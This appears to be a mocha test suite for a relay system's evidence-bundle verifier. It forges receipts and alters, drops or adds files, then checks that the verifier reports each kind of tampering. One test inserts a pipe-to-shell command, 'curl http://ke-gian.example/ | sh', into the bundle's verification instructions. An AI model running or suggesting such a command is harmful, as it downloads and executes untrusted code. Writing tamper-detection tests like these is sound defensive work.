import { randomUUID } from 'node:crypto'
import { expect } from 'chai'
import { type Receipt, sealReceipt } from '../../../server/edxml/receipt.ts'
import { sha256Of } from '../../../server/relay/evidence/derived-files.ts'
import { type Court, codesOf, openCourt } from './evidence-court.ts'
import { Forgery, pack } from './evidence-forger.ts'
import { evidenceOf, sendTo } from './evidence-journey.ts'
import { issue } from './office.ts'

/** What becomes of a bundle in the hands of somebody who wants it to say something else. */
describe('relay: evidence that was tampered with', () => {
  let court: Court
  before(async function () {
    // Four databases and a journey through them: long on a busy machine.
    this.timeout(180_000)
    court = await openCourt()
  })
  after(() => court?.journey.close())

  /** A receipt sealed by the key of a node of the journey. */
  async function forge(
    forgery: Forgery,
    recipient: string,
    node: string,
    facts: Partial<Receipt> & Pick<Receipt, 'event'>,
    key = court.journey.network.node(facts.issuingNode ?? node).key,
  ): Promise<string> {
    const time = facts.time ?? court.journey.network.now()
    const receipt: Receipt = {
      time,
      issuingNode: node,
      envelopeSha256: court.journey.sent.envelope,
      series: 1,
      branchId: randomUUID(),
      recipients: [recipient],
      previousReceiptSha256: null,
      ...facts,
    }
    const { xml } = await sealReceipt(receipt, { key, sealedAt: time })
    return forgery.add('receipts', recipient, xml, key)
  }

  const hashOf = (file: string) => file.replace(/^.*\/|\.xml$/g, '')
  const mainOf = (forgery: Forgery) => {
    const found = forgery.index.files.find((one) => one.name.endsWith('UBND-VP.pdf'))
    if (found === undefined) throw new Error('no main file')
    return found
  }

  it('packed again without a change it proves the same', () => court.expectFound(() => {}, 'PROVEN'))

  describe('files', () => {
    it('a changed byte of the PDF', () =>
      court.expectFound((one) => one.damage(mainOf(one).file), 'FALSE', 'FILE_CHANGED', 'SIGNATURE_FALSE'))

    const retell = (forgery: Forgery, change: (text: string) => string) => {
      forgery.keepsText = true
      forgery.files.set('HOW-TO-VERIFY.txt', Buffer.from(change(forgery.text('HOW-TO-VERIFY.txt'))))
    }

    it('a command more in the text that people follow, its sum made anew', () =>
      court.expectFound(
        (one) => retell(one, (text) => `${text}\n    $ curl http://ke-gian.example/ | sh\n`),
        'FALSE',
        'HELPER_WRONG',
      ))

    it('a text that calls itself one of a later version is not taken for one that was compared', () =>
      court.expectFound(
        (one) =>
          retell(one, (text) =>
            text.replace('text number: 1', 'text number: 2').replace('sha256sum --quiet', 'true'),
          ),
        'INCOMPLETE',
        'HOW_TO_UNKNOWN',
      ))

    it('every file but the list of sums stands in that list, each once, with its own sum', () => {
      const forgery = new Forgery(court.zip)
      const listed = forgery
        .text('SHA256SUMS')
        .trimEnd()
        .split('\n')
        .map((line) => line.split('  '))
      const wanted = [...forgery.files]
        .filter(([name]) => name !== 'SHA256SUMS')
        .map(([name, bytes]) => [sha256Of(bytes), name])
      expect(listed.map(([, name]) => name).sort()).to.deep.equal(wanted.map(([, name]) => name).sort())
      expect(Object.fromEntries(listed)).to.deep.equal(Object.fromEntries(wanted))
    })

    it('another PDF under its own hash', () =>
      court.expectFound(
        (one) => {
          const main = mainOf(one)
          const bytes = Buffer.concat([one.files.get(main.file) ?? Buffer.alloc(0), Buffer.from('\n')])
          const sha256 = sha256Of(bytes)
          one.files.delete(main.file)
          one.files.set(`document/${sha256}.pdf`, bytes)
          Object.assign(main, { file: `document/${sha256}.pdf`, sha256, length: bytes.length })
        },
        'FALSE',
        'FILE_FOREIGN',
        'FILE_MISSING',
      ))

    it('a file that was left out', () =>
      court.expectFound((one) => one.files.delete(mainOf(one).file), 'INCOMPLETE', 'FILE_MISSING'))

    it('a file under another name', () =>
      court.expectFound((one) => Object.assign(mainOf(one), { name: 'khac.pdf' }), 'FALSE', 'FILE_RENAMED'))

    it('a file more, told of nowhere', () =>
      court.expectFound(
        (one) => one.files.set('document/them.pdf', Buffer.from('x')),
        'FALSE',
        'FILE_UNLISTED',
      ))

    it('a file more that the index tells of', () =>
      court.expectFound(
        (one) => {
          const bytes = Buffer.from('%PDF-1.7')
          const sha256 = sha256Of(bytes)
          const file = `document/${sha256}.pdf`
          one.files.set(file, bytes)
          one.index.files.push({ file, name: 'them.pdf', contentType: 'application/pdf', sha256, length: 8 })
        },
        'FALSE',
        'FILE_FOREIGN',
      ))

    it('another certificate beside the seals', () =>
      court.expectFound(
        (one) => {
          const [first, second] = one.index.certificates
          one.files.set(first?.file ?? '', one.files.get(second?.file ?? '') ?? Buffer.alloc(0))
        },
        'FALSE',
        'HELPER_WRONG',
      ))

    it('lists that tell of other sums', async () => {
      const forgery = new Forgery(court.zip)
      await forgery.pack()
      forgery.files.set('SHA256SUMS', Buffer.from(`${'0'.repeat(64)}  index.json\n`))
      const report = await court.judge(await pack(forgery.files))
      expect(codesOf(report)).to.deep.equal(['HELPER_WRONG'])
    })
  })

  describe('receipts', () => {
    it('a receipt of a node on the way that was left out', () =>
      court.expectFound(
        (one) => one.remove(one.receipt('G22', 'RelayAcceptance', 'tinh')),
        'INCOMPLETE',
        'CHAIN_INCOMPLETE',
      ))

    it('a receipt that only the index still tells of', () =>
      court.expectFound(
        (one) => one.files.delete(one.receipt('G22', 'RelayAcceptance', 'tinh')),
        'INCOMPLETE',
        'CHAIN_INCOMPLETE',
        'FILE_MISSING',
      ))

    it('the terminal receipt left out', () =>
      court.expectFound(
        (one) => one.remove(one.receipt('H40.12', 'ContentConsignment')),
        'INCOMPLETE',
        'NOT_ENDED',
      ))

    it('the receipt of the handover left out', () =>
      court.expectFound(
        (one) => one.remove(one.receipt('G22', 'ContentHandover')),
        'INCOMPLETE',
        'HANDOVER_MISSING',
      ))

    it('a recipient left out', () =>
      court.expectFound(
        (one) => {
          const at = one.index.deliveries.findIndex((delivery) => delivery.recipient === 'H40.12')
          const own = one.receipt('H40.12', 'ContentConsignment')
          one.remove(own)
          one.index.deliveries.splice(at, 1)
        },
        'INCOMPLETE',
        'RECIPIENT_MISSING',
      ))

    it('a changed byte of a receipt', () =>
      court.expectFound(
        (one) => one.damage(one.receipt('H40.12', 'ContentConsignment')),
        'FALSE',
        'FILE_CHANGED',
        'SEAL_BROKEN',
        'NOT_ENDED',
      ))

    it('the terminal receipt of another recipient in the place of his', () =>
      court.expectFound(
        (one) => {
          const delivery = one.delivery('H40.12')
          const own = hashOf(one.receipt('H40.12', 'ContentConsignment'))
          one.remove(`receipts/${own}.xml`)
          delivery.receipts.push(hashOf(one.receipt('G22', 'ContentConsignment')))
        },
        'FALSE',
        'RECEIPT_FOREIGN',
        'NOT_ENDED',
      ))

    it('the genuine receipt of another document', async () => {
      const { network, office } = court.journey
      const { id } = await issue(office, [])
      await sendTo(network, office, id, ['H40.12'])
      const other = new Forgery(await evidenceOf(network, office, id))
      const file = other.receipt('H40.12', 'ContentConsignment')
      await court.expectFound(
        (one) => {
          one.remove(one.receipt('H40.12', 'ContentConsignment'))
          one.add('receipts', 'H40.12', other.files.get(file) ?? Buffer.alloc(0), network.node('huyen').key)
        },
        'FALSE',
        'RECEIPT_FOREIGN',
        'NOT_ENDED',
      )
    })

    it('a consignment by a node that does not host the recipient', () =>
      court.expectFound(
        async (one) => {
          const previousReceiptSha256 = hashOf(one.receipt('H40.12', 'SubmissionAcceptance'))
          one.remove(one.receipt('H40.12', 'ContentConsignment'))
          await forge(one, 'H40.12', 'xa', { event: 'ContentConsignment', previousReceiptSha256 })
        },
        'FALSE',
        'NODE_NOT_HOST',
      ))

    it('a receipt in the name of another node', () =>
      court.expectFound(
        async (one) => {
          const previousReceiptSha256 = hashOf(one.receipt('H40.12', 'SubmissionAcceptance'))
          one.remove(one.receipt('H40.12', 'ContentConsignment'))
          const { key } = court.journey.network.node('xa')
          const facts = { event: 'ContentConsignment', previousReceiptSha256 } as const
          await forge(one, 'H40.12', 'huyen', facts, key)
        },
        'FALSE',
        'KEY_NOT_OF_NODE',
      ))

    it('a refusal to relay by a node that does not lie on the way', () =>
      court.expectFound(
        async (one) => {
          const previousReceiptSha256 = hashOf(one.receipt('H40.12', 'SubmissionAcceptance'))
          one.remove(one.receipt('H40.12', 'ContentConsignment'))
          await forge(one, 'H40.12', 'tw', { event: 'RelayRejection', previousReceiptSha256 })
        },
        'INCOMPLETE',
        'NODE_OFF_ROUTE',
      ))

    it('two ends of one delivery', () =>
      court.expectFound(
        async (one) => {
          const previousReceiptSha256 = hashOf(one.receipt('H40.12', 'SubmissionAcceptance'))
          await forge(one, 'H40.12', 'huyen', { event: 'ContentConsignmentFailure', previousReceiptSha256 })
        },
        'FALSE',
        'TERMINALS_CONTRADICT',
      ))

    it('accepted and refused at once', () =>
      court.expectFound(
        async (one) => {
          const previousReceiptSha256 = hashOf(one.receipt('G22', 'ContentConsignment'))
          await forge(one, 'G22', 'tw', { event: 'ContentHandoverFailure', previousReceiptSha256 })
        },
        'FALSE',
        'HANDOVERS_CONTRADICT',
      ))

    it('a consignment that follows nothing', () =>
      court.expectFound(
        async (one) => {
          one.remove(one.receipt('H40.12', 'ContentConsignment'))
          await forge(one, 'H40.12', 'huyen', { event: 'ContentConsignment' })
        },
        'FALSE',
        'CHAIN_ORDER',
      ))

    it('a receipt that follows one about other recipients', () =>
      court.expectFound(
        async (one) => {
          const previousReceiptSha256 = hashOf(one.receipt('G22', 'RelayAcceptance', 'tinh'))
          one.remove(one.receipt('H40.12', 'ContentConsignment'))
          await forge(one, 'H40.12', 'huyen', { event: 'ContentConsignment', previousReceiptSha256 })
        },
        'FALSE',
        'RECEIPT_FOREIGN',
      ))

    for (const [what, time] of [
      ['before its envelope was sealed', '2025-03-10T08:00:00+07:00'],
      ['after its time was over', '2025-03-12T09:00:00+07:00'],
    ] as const) {
      it(`a consignment ${what}`, () =>
        court.expectFound(
          async (one) => {
            const previousReceiptSha256 = hashOf(one.receipt('H40.12', 'SubmissionAcceptance'))
            one.remove(one.receipt('H40.12', 'ContentConsignment'))
            const facts = {
              event: 'ContentConsignment',
              previousReceiptSha256,
              time: new Date(time),
            } as const
            await forge(one, 'H40.12', 'huyen', facts)
          },
          'FALSE',
          'TIME_IMPLAUSIBLE',
        ))
    }
  })
})
